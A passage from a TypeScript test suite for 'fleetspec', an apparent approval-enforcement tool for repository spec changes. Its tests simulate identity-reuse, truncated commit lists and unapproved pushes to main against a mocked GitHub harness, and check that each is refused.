    expect(h.gh.takeViolations()).toEqual([]);
  });

  // -- 11. Identity ---------------------------------------------------------------------------------

  it("attack 11a: alice renames her account, someone registers 'alice' anew and approves: refused, another account", async () => {
    const original = h.gh.users.id('alice');
    h.gh.renameUser('alice', 'alice-new');
    try {
      const impostor = h.gh.users.id('alice');
      expect(impostor).not.toBe(original);
      const pr = await proposed('impostor', addTicket('T-1101'), 'bob');
      h.approve(pr.number, 'alice');
      const m = h.mergeCommit(pr.number, 'bob');
      await expectRefused(m, { outcome: 'not-approved', pr: pr.number, ticket: 'T-1101', why: new RegExp(`^@alice is GitHub account ${impostor}, not account ${original} that the roles spec named by that login`) });
    } finally {
      h.gh.renameUser('alice', 'alice-impostor');
      h.gh.renameUser('alice-new', 'alice');
    }
    expect(h.gh.users.id('alice')).toBe(original);
  });

  it('attack 11b: a PR of 300 commits (GitHub lists 250 at most) with an unlinked commit author needs two approvers: one is refused, alice and carol apply', async () => {
    const over250 = (real: { sha: string; author: string | null }[]) => ({ commits: real, total: 300 });
    h.push('many-commits', addTicket('T-1102'), { as: 'bob' });
    const pr = await proposed('many-commits', addTicket('T-1103'), 'bob', 'success');
    h.push('many-commits', addTicket('T-1104'), { as: 'bob', unlinked: true });
    h.listCommits(pr.number, over250);
    await h.tick();
    expect(h.mustPr('many-commits').commits).toContainEqual({ sha: expect.any(String), author: null });
    h.approve(pr.number, 'alice');
    const m = h.mergeCommit(pr.number, 'bob');
    await expectRefused(m, {
      outcome: 'not-approved',
      pr: pr.number,
      ticket: 'T-1102',
      why: /^two approvers are needed, because fleetspec cannot name everyone who made this change: .*author email is linked to no GitHub account.*GitHub lists 3 of the pull request's 300 commits/,
    });

    // The same change once more (the branch carries the refused merge), approved by both.
    h.push('many-commits-again', addTicket('T-1105'), { as: 'bob', unlinked: true });
    await h.tick();
    const again = h.mustPr('many-commits-again');
    h.listCommits(again.number, over250);
    h.approve(again.number, 'alice');
    h.approve(again.number, 'carol');
    const n = h.mergeCommit(again.number, 'bob');
    await expectApplied(n, again.number, ['T-1102', 'T-1103', 'T-1104', 'T-1105']);
    expect(h.commentsOn(again.number).at(-1)).toContain('Approved by @alice and @carol');
  });

  // -- 12. The unapproved-commits finding -----------------------------------------------------------

  it('attack 12: the unapproved-commits finding is not withdrawn by an unrelated approved PR (its merge holds the refused change); a revert withdraws it', async () => {
    h.findings = new Set(['unapproved']);
    const trusted = h.trusted;
    const d = h.pushToMain(addTicket('T-1201'), 'bob');
    let report = await expectRefused(d, { outcome: 'not-approved', pr: null, ticket: 'T-1201', why: /^pushed to main without a pull request; changes specs\/tickets\/T-1201\.yaml$/ });
    expect(report.findings).toContainEqual(expect.objectContaining({ key: 'main.unapproved', action: 'opened' }));
    const finding = report.findings.find((f) => f.key === 'main.unapproved')!;

    // bob's unrelated change, from the trusted commit: it does not contain the refused push, its merge does.
    const pr = await proposed('unrelated', addTicket('T-1202'), 'bob', 'success', trusted);
    expect(planOf(pr.number)).not.toContain('fleetspec refused on the default branch');
    h.approve(pr.number, 'alice');
    const m = h.mergeCommit(pr.number, 'alice');
    report = await expectRefused(m, { outcome: 'untrusted', pr: pr.number, ticket: 'T-1202', why: /^specs\/tickets\/T-1201\.yaml is changed by the merge but not by the approved head$/ });
    expect(report.findings.filter((f) => f.action === 'withdrawn' || f.action === 'closing')).toEqual([]);
    expect(h.gh.repo().pulls.get(finding.pr!)).toMatchObject({ state: 'open' });
    expect(h.applied('T-1201')).toBe(false);

    // A revert brings main back to the trusted commit: accepted, and the finding's PR is withdrawn.
    const revert = h.pushToMain({ 'specs/tickets/T-1201.yaml': null, 'specs/tickets/T-1202.yaml': null }, 'alice');
    report = await h.tick();
    expect(report.main).toContainEqual({ sha: revert, outcome: 'reverted', pr: null, detail: expect.any(String) });
    expect(report.findings).toContainEqual(expect.objectContaining({ key: 'main.unapproved', pr: finding.pr, action: 'withdrawn' }));
    expect(h.gh.repo().pulls.get(finding.pr!)).toMatchObject({ state: 'closed', merged: false });
    expect(h.applied('T-1201')).toBe(false);
    expect(h.applied('T-1202')).toBe(false);
    expect(h.gh.takeViolations()).toEqual([]);
  });

  // -- Also -------------------------------------------------------------------------------------------

  it('a branch pushed before the loop refused a commit it carries: the approval of its plan (which could not list the commit) does not cover it', async () => {
    // mallory pushes the grant to main and a harmless branch on top of it, both before the next tick.
    const x = h.pushToMain({ [ROLES_PATH]: rolesYaml(withApprover('mallory')) }, 'mallory');
    h.push('harmless-on-top', addTicket('T-1401'), { as: 'mallory' });
    const report = await h.tick();
    expect(report.main).toContainEqual({ sha: x, outcome: 'not-approved', pr: null, detail: expect.any(String) });
    expect(report.branches.find((b) => b.branch === 'harmless-on-top')).toMatchObject({ status: 'success' });
    const pr = h.mustPr('harmless-on-top');
    h.approve(pr.number, 'alice');
    const m = h.mergeCommit(pr.number, 'alice');
    await expectRefused(m, { outcome: 'untrusted', pr: pr.number, ticket: 'T-1401', why: new RegExp(`^the approved head contains ${x.slice(0, 7)}, refused on main, which the plan the reviewer saw did not list`) });
    expect(h.git('show', `${h.trusted}:${ROLES_PATH}`)).not.toContain('mallory');
  });

  // Found while writing the test above: the plan comment is published when the branch is planned (before
  // the default branch's commits are examined in the same tick) and never again for the same head.
  it('a branch pushed before the loop refused a commit it carries: its plan comment lists the commit from the next tick on', async () => {
    const x = h.pushToMain(addTicket('T-1501'), 'bob');
    h.push('carrier-early', addTicket('T-1502'), { as: 'bob' });
    await h.tick(); // plans the branch, then refuses x
    expect(await h.outcome(x)).toBe('not-approved');
    await h.tick();
    expect(planOf(h.mustPr('carrier-early').number)).toContain(`- ${x.slice(0, 7)}: pushed to main without a pull request`);
  });

  it('a PR that carries a refused commit lists it in its plan comment; a branch from the trusted commit does not', async () => {
    const d = h.pushToMain(addTicket('T-1301'), 'bob');
    await expectRefused(d, { outcome: 'not-approved', pr: null, ticket: 'T-1301', why: /^pushed to main without a pull request/ });
    h.push('carrier', addTicket('T-1302'), { as: 'bob' });
    h.push('clean', addTicket('T-1303'), { as: 'bob', from: h.trusted });
    await h.tick();
    const carrier = planOf(h.mustPr('carrier').number);
    expect(carrier).toContain("**This branch contains 1 commit that fleetspec refused on the default branch; GitHub's diff does not show it, and approving this pull request approves it too:**");
    expect(carrier).toMatch(new RegExp(`^- ${d.slice(0, 7)}: pushed to main without a pull request; changes specs/tickets/T\\\\?-1301\\\\?\\.yaml$`, 'm'));
    expect(planOf(h.mustPr('clean').number)).not.toContain('fleetspec refused on the default branch');
    expect(h.gh.takeViolations()).toEqual([]);
  });
});
